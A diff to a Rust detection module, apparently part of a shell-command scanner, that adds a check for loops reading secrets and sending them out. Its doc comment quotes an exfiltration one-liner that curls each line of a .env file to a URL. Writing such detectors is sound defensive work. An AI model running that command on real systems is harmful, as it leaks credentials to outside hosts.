@@ -79,7 +79,8 @@ pub(super) fn candidates<'t>(look: &Look<'t>) -> Vec<Candidate<'t>> {
     if tool.sends || sends_under(look, tool) {
         let secret = piped.secret
             || substituted.secret
-            || (secrets::names_one(look) || secrets::reads_one(look, look.seen));
+            || (secrets::names_one(look) || secrets::reads_one(look, look.seen))
+            || reads_secrets_in_a_loop(look);
         if piped.terminal && !tool.runs.iter().any(|runs| runs.elsewhere) {
             found.push(Look::stand_alone(&known.terminal_to_network, Category::RemoteExecution));
         } else if secret {
@@ -93,6 +94,14 @@ pub(super) fn candidates<'t>(look: &Look<'t>) -> Vec<Candidate<'t>> {
         }
     }
     found
+}
+
+/// `while read l; do curl "$u/$l"; done < .env`: what stands behind a loop is what those in it read.
+fn reads_secrets_in_a_loop(look: &Look<'_>) -> bool {
+    let behind = look.all.get(look.at + 1..).unwrap_or_default().iter().take(MAX_STREAM);
+    let mut loops = behind.filter(|other| other.words.is_empty() && other.parent == look.seen.parent);
+    look.seen.words.iter().skip(1).any(|word| !word.literal)
+        && loops.any(|other| secrets::reads_one(look, other))
 }
 
 /// Whether it writes a line that fetches and runs something into a file that is no text for humans.
